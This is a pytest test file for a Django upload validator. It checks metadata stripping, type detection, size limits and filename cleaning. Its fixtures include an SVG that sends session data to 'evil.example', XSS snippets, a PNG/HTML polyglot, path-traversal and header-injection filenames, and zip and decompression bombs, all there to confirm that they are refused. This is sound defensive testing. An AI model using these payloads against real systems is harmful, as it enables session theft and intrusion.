"""What core.uploads accepts, what it refuses, and what it does to what it accepts.

Every file is built in memory; no database needed.
"""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image, ImageCms

from core import uploads
from core.uploads import MAX_FILE_BYTES, MAX_FILES, SafeUpload, inspect_upload, inspect_uploads


@pytest.fixture(autouse=True)
def english():
    """These tests compare message texts in English; the Vietnamese ones are checked by test_i18n."""
    with translation.override("en"):
        yield


MINIMAL_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000052 00000 n \n0000000101 00000 n \n"
    b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n164\n%%EOF\n"
)
SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
  <script>fetch('/api/session').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>
</svg>
"""
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="image/jpeg")  # the client's type is never trusted


def image_bytes(fmt: str, size=(40, 20), mode="RGB", colour="red", **save_options) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, colour).save(buffer, fmt, **save_options)
    return buffer.getvalue()


def jpeg_with_gps_and_rotation() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # stored sideways: viewers rotate it 90° clockwise
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (21.0, 1.0, 42.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (105.0, 51.0, 12.0),
    }
    return image_bytes("JPEG", size=(40, 20), exif=exif, comment=b"taken at home")


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        }
    )


def refusal(uploaded_file) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        inspect_upload(uploaded_file)
    return caught.value


def messages(error: ValidationError) -> list[str]:
    return [str(message) for message in error.messages]


def codes(error: ValidationError) -> list[str]:
    return [item.code for item in error.error_list]


# --- images


def test_a_jpeg_loses_all_exif_including_gps_and_is_turned_upright():
    original = jpeg_with_gps_and_rotation()
    with Image.open(io.BytesIO(original)) as before:  # the test file really carries what we strip
        assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)

    result = inspect_upload(upload("IMG_0001.jpg", original))

    assert result.is_image
    assert result.content_type == "image/jpeg"
    assert result.extension == ".jpg"
    assert result.data != original
    with Image.open(io.BytesIO(result.data)) as after:
        assert after.format == "JPEG"
        assert dict(after.getexif()) == {}
        assert after.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert "exif" not in after.info
        assert "comment" not in after.info
        assert after.size == (20, 40)  # 40x20 stored with orientation 6 is a 20x40 photo
    assert b"Exif" not in result.data
    assert b"PhoneMaker" not in result.data


def test_a_png_with_html_appended_comes_back_without_the_html():
    payload = b"<html><script>alert(document.domain)</script></html>"
    polyglot = image_bytes("PNG") + payload

    result = inspect_upload(upload("screenshot.png", polyglot))

    assert result.content_type == "image/png"
    assert payload not in result.data
    assert b"<script" not in result.data
    with Image.open(io.BytesIO(result.data)) as image:
        assert image.format == "PNG"
        assert image.size == (40, 20)


def test_a_webp_is_reencoded_as_webp():
    result = inspect_upload(upload("photo.webp", image_bytes("WEBP")))
    assert (result.extension, result.content_type, result.is_image) == (".webp", "image/webp", True)
    with Image.open(io.BytesIO(result.data)) as image:
        assert image.format == "WEBP"


def test_a_png_with_transparency_keeps_it():
    result = inspect_upload(upload("logo.png", image_bytes("PNG", mode="RGBA")))
    with Image.open(io.BytesIO(result.data)) as image:
        assert image.mode == "RGBA"


def test_a_16_bit_greyscale_png_keeps_its_tones():
    result = inspect_upload(upload("scan.png", image_bytes("PNG", mode="I;16", colour=30_000)))
    with Image.open(io.BytesIO(result.data)) as image:
        assert image.mode == "L"
        assert image.getpixel((0, 0)) == 30_000 // 256


def test_an_icc_profile_is_applied_then_dropped():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    result = inspect_upload(upload("p3.jpg", image_bytes("JPEG", icc_profile=profile)))
    with Image.open(io.BytesIO(result.data)) as image:
        assert "icc_profile" not in image.info


def test_the_type_comes_from_the_bytes_not_the_name():
    result = inspect_upload(upload("really-a-png.jpg", image_bytes("PNG")))
    assert (result.extension, result.content_type, result.original_name) == (".png", "image/png", "really-a-png.png")


def test_a_truncated_image_is_refused():
    error = refusal(upload("broken.jpg", image_bytes("JPEG", size=(200, 200))[:300]))
    assert codes(error) == ["invalid_image"]
    assert "“broken.jpg” is not a valid image." in messages(error)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize("side", [7_000, 10_000])  # 49 MP: over our limit; 100 MP: over Pillow's as well
def test_an_image_declaring_too_many_pixels_is_refused(side):
    # One colour compresses to a few kilobytes but would decode to 100 MB.
    bomb = image_bytes("PNG", size=(side, side), mode="L", colour=128)
    assert len(bomb) < MAX_FILE_BYTES
    error = refusal(upload("bomb.png", bomb))
    assert codes(error) == ["image_too_large"]
    assert messages(error) == ["“bomb.png” is too large an image (more than 40 megapixels)."]


# --- markup and other things that are not accepted


def test_an_svg_with_a_script_named_png_is_refused():
    error = refusal(upload("photo.png", SVG_WITH_SCRIPT))
    assert codes(error) == ["markup"]
    assert messages(error) == [
        "“photo.png” is not an accepted file type. Send photos (JPEG, PNG, WebP), PDF or office documents."
    ]


@pytest.mark.parametrize(
    "content",
    [
        b"  \n\t<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"\xef\xbb\xbf<?xml version='1.0'?><svg/>",
        b"<script>alert(1)</script>",
        b"<HTML><body>hi</body></HTML>",
    ],
)
def test_markup_is_refused_whatever_it_starts_with(content):
    assert codes(refusal(upload("image.jpg", content))) == ["markup"]


def test_an_html_file_named_pdf_is_refused():
    error = refusal(upload("report.pdf", HTML_PAGE))
    assert "“report.pdf” is not an accepted file type." in messages(error)[0]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100),  # Windows executable
        ("tool.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 100),  # Linux executable
        ("notes.doc", "ghi chú".encode()),  # plain text
        ("anim.png", b"GIF89a" + b"\x00" * 20),  # GIF is not on the list
    ],
)
def test_other_types_are_refused(name, content):
    assert codes(refusal(upload(name, content))) == ["unknown_type"]


# --- PDF and office documents


def test_a_minimal_pdf_is_accepted_unchanged():
    result = inspect_upload(upload("Biên bản.pdf", MINIMAL_PDF))
    assert result == SafeUpload(
        original_name="Biên bản.pdf",
        content_type="application/pdf",
        extension=".pdf",
        data=MINIMAL_PDF,
        is_image=False,
    )


def test_a_docx_is_accepted_as_docx_even_without_its_extension():
    content = docx_bytes()
    result = inspect_upload(upload("Báo cáo sự cố", content))
    assert result.extension == ".docx"
    assert result.content_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert result.original_name == "Báo cáo sự cố.docx"
    assert result.data == content
    assert not result.is_image


@pytest.mark.parametrize(
    ("folder", "extension"),
    [("xl/workbook.xml", ".xlsx"), ("ppt/presentation.xml", ".pptx")],
)
def test_xlsx_and_pptx_are_told_apart_by_their_parts(folder, extension):
    content = zip_bytes({"[Content_Types].xml": b"<Types/>", folder: b"<x/>"})
    assert inspect_upload(upload("document.docx", content)).extension == extension


@pytest.mark.parametrize(
    ("mimetype", "extension"),
    [
        (b"application/vnd.oasis.opendocument.text", ".odt"),
        (b"application/vnd.oasis.opendocument.spreadsheet", ".ods"),
    ],
)
def test_opendocument_files_are_accepted_by_their_mimetype_member(mimetype, extension):
    content = zip_bytes({"mimetype": mimetype, "content.xml": b"<office:document-content/>"})
    result = inspect_upload(upload("tai-lieu", content))
    assert (result.extension, result.content_type) == (extension, mimetype.decode())


def test_an_opendocument_presentation_is_refused():
    content = zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.presentation"})
    assert codes(refusal(upload("slides.odp", content))) == ["unknown_opendocument"]


def test_a_plain_zip_renamed_jpg_is_refused():
    content = zip_bytes({"evil.exe": b"MZ" + b"\x00" * 100, "readme.txt": b"hello"})
    error = refusal(upload("holiday.jpg", content))
    assert codes(error) == ["plain_zip"]
    assert "“holiday.jpg”" in messages(error)[0]


def test_a_zip_declaring_a_huge_unpacked_size_is_refused():
    # 101 MB of zeros deflates to about 100 kB.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"\x00" * (101 * 1024 * 1024))
    assert codes(refusal(upload("bomb.docx", buffer.getvalue()))) == ["zip_bomb"]


def test_a_broken_zip_is_refused():
    assert codes(refusal(upload("broken.docx", docx_bytes()[:60]))) == ["broken_zip"]


def ole2(*streams: str) -> bytes:
    # Only what the check looks at: the OLE2 signature and directory entry names (UTF-16LE).
    return (
        uploads._OLE2_MAGIC + b"\x00" * 504 + b"".join(stream.encode("utf-16-le") + b"\x00\x00" for stream in streams)
    )


@pytest.mark.parametrize(
    ("name", "streams", "extension", "content_type"),
    [
        ("Công văn.DOC", ("Root Entry", "WordDocument", "1Table"), ".doc", "application/msword"),
        ("bang tinh.xls", ("Root Entry", "Workbook"), ".xls", "application/vnd.ms-excel"),
    ],
)
def test_legacy_office_files_are_told_apart_by_their_extension(name, streams, extension, content_type):
    result = inspect_upload(upload(name, ole2(*streams)))
    assert (result.extension, result.content_type) == (extension, content_type)
    assert result.original_name.endswith(extension)


@pytest.mark.parametrize(
    ("name", "streams"),
    [
        ("installer.jpg", ("Root Entry", "WordDocument")),  # extension is neither .doc nor .xls
        ("installer.doc", ("Root Entry", "Binary.Icon")),  # an .msi renamed .doc
        ("sheet.xls", ("Root Entry", "WordDocument")),  # a Word file named .xls
    ],
)
def test_other_ole2_files_are_refused(name, streams):
    assert codes(refusal(upload(name, ole2(*streams)))) == ["unknown_ole2"]


# --- sizes and counts


def test_an_empty_file_is_refused():
    error = refusal(upload("empty.jpg", b""))
    assert codes(error) == ["empty"]
    assert messages(error) == ["“empty.jpg” is empty."]


def test_a_file_over_10_mb_is_refused():
    error = refusal(SimpleUploadedFile("big.pdf", b"\x00" * (11 * 1024 * 1024)))
    assert codes(error) == ["too_large"]
    assert messages(error) == ["“big.pdf” is larger than 10 MB."]


def test_a_file_larger_than_it_claims_is_refused_on_the_bytes_read():
    lying = SimpleUploadedFile("small.pdf", b"%PDF-" + b"\x00" * MAX_FILE_BYTES)
    lying.size = 100
    assert codes(refusal(lying)) == ["too_large"]


def test_a_file_of_exactly_10_mb_is_accepted():
    content = b"%PDF-1.7\n" + b"\x00" * (MAX_FILE_BYTES - 9)
    assert len(inspect_upload(upload("exact.pdf", content)).data) == MAX_FILE_BYTES


def test_eleven_files_are_refused():
    files = [upload(f"{n}.pdf", MINIMAL_PDF) for n in range(MAX_FILES + 1)]
    with pytest.raises(ValidationError) as caught:
        inspect_uploads(files)
    assert messages(caught.value) == ["You can attach at most 10 files."]


def test_ten_files_are_accepted_in_order():
    files = [upload(f"{n}.pdf", MINIMAL_PDF) for n in range(MAX_FILES)]
    assert [result.original_name for result in inspect_uploads(files)] == [f"{n}.pdf" for n in range(MAX_FILES)]


def test_every_bad_file_is_named_in_one_error():
    files = [
        upload("good.pdf", MINIMAL_PDF),
        upload("empty.jpg", b""),
        upload("photo.png", SVG_WITH_SCRIPT),
        upload("ảnh.jpg", image_bytes("JPEG")),
    ]
    with pytest.raises(ValidationError) as caught:
        inspect_uploads(files)
    assert codes(caught.value) == ["empty", "markup"]
    found = messages(caught.value)
    assert found[0] == "“empty.jpg” is empty."
    assert found[1].startswith("“photo.png” is not an accepted file type.")


def test_no_files_is_fine():
    assert inspect_uploads([]) == []


# --- names


def test_a_name_with_a_path_and_line_breaks_is_cleaned():
    result = inspect_upload(upload("../../etc/pass\r\nwd.jpg", image_bytes("JPEG")))
    assert result.original_name == "passwd.jpg"


def test_a_windows_path_and_control_characters_are_removed():
    result = inspect_upload(upload('..\\..\\Windows\\a\x00b\u202egpj.exe"<x>.jpg', image_bytes("JPEG")))
    name = result.original_name
    assert name == "abgpj.exe__x_.jpg"
    assert not set(name) & set('/\\\r\n\x00\u202e"<>')


def test_an_error_message_shows_the_cleaned_name():
    error = refusal(upload("../secret\r\nSet-Cookie: x.jpg", b""))
    assert messages(error) == ["“secretSet-Cookie_ x.jpg” is empty."]


def test_a_vietnamese_name_keeps_its_letters_and_gets_a_lowercase_extension():
    result = inspect_upload(upload("ảnh hiện trường.JPG", image_bytes("JPEG")))
    assert result.original_name == "ảnh hiện trường.jpg"
    assert result.extension == ".jpg"


def test_a_decomposed_vietnamese_name_is_composed():
    decomposed = "a\u0309nh.jpeg"  # "ảnh" as macOS sends it
    assert inspect_upload(upload(decomposed, image_bytes("JPEG"))).original_name == "\u1ea3nh.jpg"


def test_a_number_after_the_last_dot_is_kept_as_part_of_the_name():
    assert inspect_upload(upload("Biên bản 12.05", MINIMAL_PDF)).original_name == "Biên bản 12.05.pdf"


def test_a_long_name_is_cut_to_200_characters_keeping_the_extension():
    result = inspect_upload(upload("ả" * 300 + ".pdf", MINIMAL_PDF))
    assert len(result.original_name) == 200
    assert result.original_name.endswith("ả.pdf")


def test_a_name_with_nothing_left_gets_a_placeholder():
    assert inspect_upload(upload("...", MINIMAL_PDF)).original_name == "file.pdf"
